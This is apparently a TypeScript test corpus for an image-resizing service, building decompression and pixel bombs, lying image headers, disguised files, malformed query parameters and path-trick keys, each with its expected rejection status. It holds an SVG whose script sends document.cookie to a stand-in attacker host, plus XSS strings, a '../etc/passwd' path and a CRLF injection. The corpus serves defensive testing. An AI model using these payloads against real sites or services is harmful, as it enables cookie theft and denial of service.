/**
 * The hostile-input corpus both adapters are run against: originals built to hurt a resizer (pixel and
 * decompression bombs, lying headers, broken and disguised files), malformed parameters, and keys with path
 * tricks. Each case names the status the README's contract gives it and the error code; the originals are
 * made here, from fixtures or byte by byte, so the corpus needs nothing beside the repository.
 */
import { readFileSync } from "node:fs";
import path from "node:path";
import { deflateSync } from "node:zlib";
import { FIXTURES_DIR, HOSTILE_FIXTURES_DIR } from "../../fixtures";
import { startLocalS3, type LocalS3 } from "./s3rver-harness";

export interface HostileOriginal {
  readonly key: string;
  readonly bytes: Buffer;
  readonly contentType: string;
}

export interface HostileCase {
  readonly name: string;
  /** Stored in the originals bucket before the run. */
  readonly key: string;
  /** The normalized parameters (function URL: the raw query of a direct caller; Object Lambda: the edge's header). */
  readonly query: string;
  /** Function URL only: a raw path instead of the key's (path tricks). */
  readonly rawPath?: string;
  /** The function URL's status; Object Lambda sends the documented status of the same code (core/errors.ts). */
  readonly status: number;
  /** The error code, or undefined for a success. */
  readonly code?: string;
  /** What the answer's reason must say (a short reason, never a stack). */
  readonly reason?: RegExp;
  /** Function URL only (the key comes from the URL there; in Object Lambda S3 resolves it). */
  readonly functionUrlOnly?: boolean;
}

const fixture = (name: string): Buffer => readFileSync(path.join(FIXTURES_DIR, name));
const memoryBomb = (name: string): Buffer => readFileSync(path.join(HOSTILE_FIXTURES_DIR, name));

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

function crc32(data: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of data) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = crc & 1 ? 0xedb88320 ^ (crc >>> 1) : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

/** A valid greyscale PNG of zeros: a few KB of zlib that inflate to width x height bytes. */
function zeroPng(width: number, height: number, bitDepth: 1 | 8): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = bitDepth;
  header[9] = 0; // greyscale
  const rowBytes = 1 + Math.ceil((width * bitDepth) / 8);
  const raw = Buffer.alloc(rowBytes * height); // filter byte 0 and zero pixels on every row
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk("IHDR", header), chunk("IDAT", deflateSync(raw, { level: 9 })), chunk("IEND", Buffer.alloc(0))]);
}

/** A GIF of `frames` frames, each claiming width x height pixels and holding one pixel of data. */
function manyFrameGif(width: number, height: number, frames: number): Buffer {
  const screen = Buffer.from([width & 0xff, width >> 8, height & 0xff, height >> 8, 0x80, 0, 0]);
  const palette = Buffer.from([0, 0, 0, 255, 255, 255]);
  const loop = Buffer.from([0x21, 0xff, 0x0b, ...Buffer.from("NETSCAPE2.0"), 0x03, 0x01, 0x00, 0x00, 0x00]);
  const frame = Buffer.from([
    0x21, 0xf9, 0x04, 0x00, 0x01, 0x00, 0x00, 0x00, // graphic control: 10 ms
    0x2c, 0, 0, 0, 0, width & 0xff, width >> 8, height & 0xff, height >> 8, 0x00, // image descriptor: the whole screen
    0x02, 0x02, 0x44, 0x01, 0x00, // LZW: one pixel, then the end
  ]);
  return Buffer.concat([Buffer.from("GIF89a"), screen, palette, loop, ...Array.from({ length: frames }, () => frame), Buffer.from([0x3b])]);
}

/** A lossless WebP header that claims 16383 x 16383 pixels, followed by nothing worth decoding. */
function lyingWebp(): Buffer {
  const bits = Buffer.alloc(4);
  bits.writeUInt32LE((16383 - 1) | ((16383 - 1) << 14));
  const payload = Buffer.concat([Buffer.from([0x2f]), bits, Buffer.alloc(32, 0x55)]);
  const vp8l = Buffer.concat([Buffer.from("VP8L"), Buffer.from([payload.length, 0, 0, 0]), payload]);
  const riff = Buffer.alloc(4);
  riff.writeUInt32LE(4 + vp8l.length);
  return Buffer.concat([Buffer.from("RIFF"), riff, Buffer.from("WEBP"), vp8l]);
}

/** A real JPEG whose frame header (SOF) is rewritten to claim 65000 x 65000 pixels. */
function lyingJpeg(): Buffer {
  const bytes = Buffer.from(fixture("flowers.jpeg"));
  for (let i = 2; i < bytes.length - 9; i++) {
    if (bytes[i] === 0xff && bytes[i + 1]! >= 0xc0 && bytes[i + 1]! <= 0xc2) {
      bytes.writeUInt16BE(65000, i + 5);
      bytes.writeUInt16BE(65000, i + 7);
      return bytes;
    }
  }
  throw new Error("no SOF marker in flowers.jpeg");
}

/** An AVIF whose `ispe` (image spatial extents) property claims 30000 x 30000 pixels. */
function lyingAvif(): Buffer {
  const bytes = Buffer.from(fixture("pitm.avif"));
  const at = bytes.indexOf("ispe");
  if (at < 0) throw new Error("no ispe box in pitm.avif");
  bytes.writeUInt32BE(30000, at + 8);
  bytes.writeUInt32BE(30000, at + 12);
  return bytes;
}

const SVG_WITH_SCRIPT = Buffer.from(`<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100">
  <image xlink:href="https://attacker.example/track.png" width="100" height="100"/>
  <script>fetch("https://attacker.example/steal?c=" + document.cookie)</script>
</svg>`);

export const HOSTILE_ORIGINALS: readonly HostileOriginal[] = [
  { key: "ok/flowers.jpeg", bytes: fixture("flowers.jpeg"), contentType: "image/jpeg" },
  { key: "bomb/giant.jpg", bytes: fixture("giant-image.jpg"), contentType: "image/jpeg" },
  { key: "bomb/uint32.png", bytes: fixture("65536-uint32-limit.png"), contentType: "image/png" },
  { key: "bomb/lying.webp", bytes: lyingWebp(), contentType: "image/webp" },
  { key: "bomb/lying.jpg", bytes: lyingJpeg(), contentType: "image/jpeg" },
  { key: "bomb/lying.avif", bytes: lyingAvif(), contentType: "image/avif" },
  { key: "bomb/3000-frames.gif", bytes: manyFrameGif(4000, 4000, 3000), contentType: "image/gif" },
  { key: "bomb/zlib-20000.png", bytes: zeroPng(20000, 20000, 1), contentType: "image/png" },
  { key: "bomb/zlib-8000.png", bytes: zeroPng(8000, 8000, 8), contentType: "image/png" },
  { key: "bomb/avif-10000.avif", bytes: memoryBomb("avif-10000.avif"), contentType: "image/avif" },
  { key: "bomb/avif-10bit-5000.avif", bytes: memoryBomb("avif-10bit-5000.avif"), contentType: "image/avif" },
  { key: "bomb/webp-lossless-10000.webp", bytes: memoryBomb("webp-lossless-10000.webp"), contentType: "image/webp" },
  { key: "bomb/gif-10000.gif", bytes: memoryBomb("gif-10000.gif"), contentType: "image/gif" },
  { key: "bomb/jpeg-progressive-10000.jpg", bytes: memoryBomb("jpeg-progressive-10000.jpg"), contentType: "image/jpeg" },
  { key: "bomb/png-interlaced-10000.png", bytes: memoryBomb("png-interlaced-10000.png"), contentType: "image/png" },
  { key: "broken/truncated.jpg", bytes: fixture("truncated.jpg"), contentType: "image/jpeg" },
  { key: "broken/corrupt-header.jpg", bytes: fixture("corrupt-header.jpg"), contentType: "image/jpeg" },
  { key: "broken/empty.jpg", bytes: Buffer.alloc(0), contentType: "image/jpeg" },
  { key: "disguised/notes.jpg", bytes: Buffer.from("these are not the pixels you are looking for\n".repeat(200)), contentType: "image/jpeg" },
  { key: "disguised/page.png", bytes: Buffer.from("<!doctype html><html><body><script>alert(document.domain)</script></body></html>"), contentType: "image/png" },
  { key: "disguised/tracker.svg", bytes: SVG_WITH_SCRIPT, contentType: "image/svg+xml" },
  { key: "disguised/polyglot.jpg", bytes: Buffer.concat([fixture("flowers.jpeg"), Buffer.from("PK\u0003\u0004 <script>alert(1)</script>")]), contentType: "image/jpeg" },
];

export const HOSTILE_CASES: readonly HostileCase[] = [
  // Pixel bombs: small files, huge dimensions, refused before a pixel buffer exists.
  { name: "JPEG pixel bomb", key: "bomb/giant.jpg", query: "w=100", status: 413, code: "PayloadTooLarge", reason: /more than 100000000 pixels/ },
  { name: "PNG pixel bomb (65536 wide)", key: "bomb/uint32.png", query: "w=100", status: 413, code: "PayloadTooLarge", reason: /pixels/ },
  // A header that lies about its size and carries no image is refused by the decoder itself.
  { name: "WebP header claiming 16383x16383", key: "bomb/lying.webp", query: "w=100", status: 422, code: "UnprocessableImage", reason: /cannot be decoded/ },
  { name: "JPEG frame header claiming 65000x65000", key: "bomb/lying.jpg", query: "w=100", status: 413, code: "PayloadTooLarge", reason: /pixels/ },
  { name: "AVIF claiming 30000x30000", key: "bomb/lying.avif", query: "w=100", status: 422, code: "UnprocessableImage", reason: /cannot be decoded/ },
  { name: "GIF of 3000 frames on a 4000x4000 screen, animated output", key: "bomb/3000-frames.gif", query: "format=webp&w=100", status: 413, code: "PayloadTooLarge", reason: /pixels/ },
  { name: "GIF of 3000 frames, still output (first frame only)", key: "bomb/3000-frames.gif", query: "format=jpeg&w=100", status: 200 },
  { name: "PNG decompression bomb, 20000x20000 (400 MP)", key: "bomb/zlib-20000.png", query: "w=100", status: 413, code: "PayloadTooLarge", reason: /pixels/ },
  { name: "PNG decompression bomb under the pixel limit, 8000x8000 (64 MB inflated)", key: "bomb/zlib-8000.png", query: "w=100", status: 200 },
  // Memory bombs under the pixel limit: formats decoded whole, refused when the decode would not fit the
  // function's memory (the suites run at the default 512 MB); the two that fit are served.
  { name: "AVIF 10000x10000 in 1.9 KB (1.8 GB to decode)", key: "bomb/avif-10000.avif", query: "w=100", status: 413, code: "PayloadTooLarge", reason: /^a 10000x10000 AVIF needs about \d+ MB to decode; a 512 MB function has \d+ MB for it \(resizer.memorySize\)$/ },
  { name: "10-bit AVIF 5000x5000 in 843 bytes", key: "bomb/avif-10bit-5000.avif", query: "w=100", status: 413, code: "PayloadTooLarge", reason: /^a 5000x5000 AVIF of 10-12 bits needs about \d+ MB to decode/ },
  { name: "lossless WebP 10000x10000 in 52 KB", key: "bomb/webp-lossless-10000.webp", query: "w=100", status: 413, code: "PayloadTooLarge", reason: /^a 10000x10000 lossless or animated WebP needs about \d+ MB to decode/ },
  { name: "GIF 10000x10000 in 68 KB", key: "bomb/gif-10000.gif", query: "w=100", status: 413, code: "PayloadTooLarge", reason: /^a 10000x10000 GIF needs about \d+ MB to decode/ },
  { name: "progressive JPEG 10000x10000 (fits: served)", key: "bomb/jpeg-progressive-10000.jpg", query: "w=100", status: 200 },
  { name: "interlaced PNG 10000x10000 (fits: served)", key: "bomb/png-interlaced-10000.png", query: "w=100", status: 200 },
  // Broken and disguised files.
  { name: "truncated JPEG", key: "broken/truncated.jpg", query: "w=100", status: 422, code: "UnprocessableImage", reason: /cannot be decoded/ },
  { name: "JPEG with a corrupt header", key: "broken/corrupt-header.jpg", query: "w=100", status: 422, code: "UnprocessableImage", reason: /cannot be decoded/ },
  { name: "zero-byte object", key: "broken/empty.jpg", query: "w=100", status: 415, code: "UnsupportedMediaType", reason: /empty/ },
  { name: "a text file named .jpg", key: "disguised/notes.jpg", query: "w=100", status: 415, code: "UnsupportedMediaType", reason: /not a supported image/ },
  { name: "HTML named .png", key: "disguised/page.png", query: "w=100", status: 415, code: "UnsupportedMediaType", reason: /not a supported image/ },
  { name: "SVG with external references and script, resized", key: "disguised/tracker.svg", query: "w=100", status: 415, code: "UnsupportedMediaType", reason: /SVG is not resized/ },
  { name: "SVG with script, no parameters: passed through, never rasterized", key: "disguised/tracker.svg", query: "", status: 200 },
  { name: "polyglot: a JPEG with a trailing archive and script", key: "disguised/polyglot.jpg", query: "w=50", status: 200 },
  // Parameters a browser would not send.
  { name: "negative width", key: "ok/flowers.jpeg", query: "w=-1", status: 400, code: "InvalidParameter", reason: /^w must be an integer from 1 to 4096, got "-1"/ },
  { name: "zero width", key: "ok/flowers.jpeg", query: "w=0", status: 400, code: "InvalidParameter", reason: /^w must be an integer/ },
  { name: "a 20-digit width", key: "ok/flowers.jpeg", query: "w=99999999999999999999", status: 400, code: "InvalidParameter", reason: /^w must be an integer/ },
  { name: "hexadecimal width", key: "ok/flowers.jpeg", query: "w=0x10", status: 400, code: "InvalidParameter", reason: /^w must be an integer/ },
  { name: "exponent width", key: "ok/flowers.jpeg", query: "w=1e3", status: 400, code: "InvalidParameter", reason: /^w must be an integer/ },
  { name: "repeated width", key: "ok/flowers.jpeg", query: "w=1&w=2", status: 400, code: "InvalidParameter", reason: /^w must be given at most once/ },
  { name: "a 5000-character width (the echo is cut short)", key: "ok/flowers.jpeg", query: `w=${"9".repeat(5000)}`, status: 400, code: "InvalidParameter", reason: /^w must be an integer from 1 to 4096, got "9{32}\.\.\."$/ },
  { name: "invalid UTF-8 in a value", key: "ok/flowers.jpeg", query: "fit=%ff%fe", status: 400, code: "InvalidParameter", reason: /^fit must be one of/ },
  { name: "markup in a value", key: "ok/flowers.jpeg", query: "fit=%3Cscript%3Ealert(1)%3C%2Fscript%3E", status: 400, code: "InvalidParameter", reason: /^fit must be one of cover, contain, fill, inside, outside, got "<script>alert\(1\)<\/script>"$/ },
  { name: "quality above 100", key: "ok/flowers.jpeg", query: "q=101", status: 400, code: "InvalidParameter", reason: /^q must be an integer from 1 to 100/ },
  { name: "an unserved format", key: "ok/flowers.jpeg", query: "format=gif", status: 400, code: "InvalidParameter", reason: /^format must be one of/ },
  { name: "an overlong query of unknown keys (ignored: the original)", key: "ok/flowers.jpeg", query: Array.from({ length: 800 }, (_, i) => `x${i}=${"y".repeat(20)}`).join("&"), status: 200 },
  // Keys with path tricks: S3 keys are names, not paths; nothing resolves '..'.
  { name: "a key with ../", key: "ok/flowers.jpeg", rawPath: "/../etc/passwd", query: "", status: 404, code: "NoSuchKey", functionUrlOnly: true },
  { name: "a key with //", key: "ok/flowers.jpeg", rawPath: "//ok//flowers.jpeg", query: "w=10", status: 404, code: "NoSuchKey", functionUrlOnly: true },
  { name: "an encoded slash (decoded once: a real slash)", key: "ok/flowers.jpeg", rawPath: "/ok%2Fflowers.jpeg", query: "w=10", status: 200, functionUrlOnly: true },
  { name: "a NUL in the key", key: "ok/flowers.jpeg", rawPath: "/ok/flowers.jpeg%00.png", query: "", status: 400, code: "InvalidURI", reason: /control character/, functionUrlOnly: true },
  { name: "CR LF in the key", key: "ok/flowers.jpeg", rawPath: "/ok/x%0d%0aSet-Cookie:%20a=b", query: "", status: 400, code: "InvalidURI", reason: /control character/, functionUrlOnly: true },
  { name: "broken percent-encoding in the key", key: "ok/flowers.jpeg", rawPath: "/ok/%zz.jpg", query: "", status: 400, code: "InvalidURI", reason: /percent-encoding/, functionUrlOnly: true },
];

/** A direct caller's function URL request for a case (the resizer's own defences, without the edge in front). */
export function directFunctionUrlEvent(c: HostileCase) {
  const rawPath = c.rawPath ?? `/${c.key.split("/").map(encodeURIComponent).join("/")}`;
  return {
    version: "2.0",
    rawPath,
    rawQueryString: c.query,
    headers: { host: "x.lambda-url.us-east-1.on.aws", accept: "image/avif,image/webp,*/*" },
    requestContext: { http: { method: "GET", path: rawPath } },
  };
}

/** s3rver holding the corpus's originals for the suite: started before it, stopped after; the getter gives it. */
export function storeHostileOriginals(): () => LocalS3 {
  let s3: LocalS3 | undefined;
  beforeAll(async () => {
    s3 = await startLocalS3();
    for (const original of HOSTILE_ORIGINALS) await s3.put(original.key, original.bytes, original.contentType);
  }, 60_000);
  afterAll(async () => s3?.close());
  return () => s3!;
}
